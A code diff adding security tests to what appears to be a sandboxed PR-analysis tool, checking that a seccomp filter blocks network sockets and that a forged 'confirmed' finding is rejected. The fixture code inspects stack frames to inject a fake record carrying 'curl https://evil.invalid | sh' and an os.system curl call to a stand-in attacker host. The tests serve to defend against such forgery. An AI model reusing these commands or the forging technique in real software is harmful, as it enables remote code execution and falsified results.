@@ -11,6 +11,7 @@ assertion that needs one it lacks is skipped with the reason.
 
 from __future__ import annotations
 
+import errno
 import json
 import os
 import secrets
@@ -627,6 +628,17 @@ def test_a_host_unix_socket_is_out_of_reach(probe: tuple[Probe, Any]) -> None:
     assert service.served == 0
 
 
+def test_sockets_of_any_family_but_unix_are_refused(probe: tuple[Probe, Any]) -> None:
+    """The seccomp filter (runners/seccomp.py), a second wall behind the network namespace:
+    socket() of another family fails as if the kernel lacked it; a socketpair still works."""
+    result = probe[0]
+    result.isolated("seccomp")
+    seen = seen_by_probe(result.error("through_files"))
+    refused = errno.EAFNOSUPPORT
+    assert seen["sockets"] == {"inet": refused, "inet6": refused, "netlink": refused,
+                               "packet": refused, "pair": "x"}, seen["sockets"]
+
+
 def test_other_jobs_checkouts_are_out_of_reach(probe: tuple[Probe, Any]) -> None:
     result = probe[0]
     result.isolated("mount_namespace")
@@ -744,6 +756,64 @@ def test_a_forged_fix_record_never_becomes_a_suggestion(git_repo: GitRepoFactory
     assert finding.status == "confirmed", (finding.error, result.errors)
     assert finding.fix is not None and finding.fix["status"] == "error", finding.fix
     assert finding.fix["reason"] == NOT_TRUSTED
+    assert "evil.invalid" not in render_markdown(result)
+    assert "evil.invalid" not in json.dumps(result.to_json())
+
+
+# ---------------------------------------------------------------- a forged reproducer
+
+REPRODUCER_FORGER = '''import json
+import sys
+
+import torch
+
+
+def _forge():
+    """While its own finding is confirmed, print a 'confirmed' record ahead of the real one,
+    carrying a backdoor as reproducer text and a plan that would rebuild it from names."""
+    frame, finding = sys._getframe(), None
+    while frame is not None:
+        if frame.f_code.co_name == "confirm" and isinstance(frame.f_locals.get("finding"), dict):
+            finding = frame.f_locals["finding"]
+        frame = frame.f_back
+    if finding is None or getattr(sys, "_numcheck_forged", False):
+        return
+    sys._numcheck_forged = True
+    out = next((m._RECORDS for m in list(sys.modules.values())
+                if getattr(m, "_RECORDS", None) is not None), sys.stdout)
+    plan = {"kind": "entry", "module": "subprocess", "qualname": "Popen", "framework": "torch",
+            "device": "cpu", "seed": 0, "constructed": True,
+            "init": [["args", "curl https://evil.invalid | sh"], ["shell", True]],
+            "inputs": []}
+    out.write(json.dumps({"fingerprint": finding["fingerprint"], "status": "confirmed",
+                          "trigger": {"where": "forward"}, "reproducer_plan": plan,
+                          "reproducer": "import os; os.system('curl https://evil.invalid')"})
+              + "\\n")
+    out.flush()
+
+
+def rate(x: torch.Tensor) -> torch.Tensor:
+    _forge()
+    return torch.log(x)
+'''
+
+
+def test_a_forged_reproducer_is_never_shown_and_proves_nothing(
+        git_repo: GitRepoFactory) -> None:
+    """The PR's code can print its own finding's confirmation record first (the supervisor
+    relays the first record of the stage). The host writes the reproducer itself from the
+    record's plan (runners/trusted.py): the text in the record is ignored, and a plan naming
+    another module than the finding's is refused, so the finding stays unproven."""
+    from analyzers.config import Config
+    from analyzers.report.markdown import render_markdown
+    from runners.pipeline import analyze
+
+    repo = git_repo({"pkg/__init__.py": "", "pkg/rates.py": "import torch\n"},
+                    {"pkg/rates.py": REPRODUCER_FORGER})
+    result = analyze(repo.root, "main", "feature", Config(search_seconds=2.0, fix=False))
+    (finding,) = [f for f in result.findings if f.op == "log"]
+    assert finding.status == "potential" and finding.reproducer is None, finding
+    assert "the plan's module is not the finding's" in str(finding.error)
     assert "evil.invalid" not in render_markdown(result)
     assert "evil.invalid" not in json.dumps(result.to_json())
 
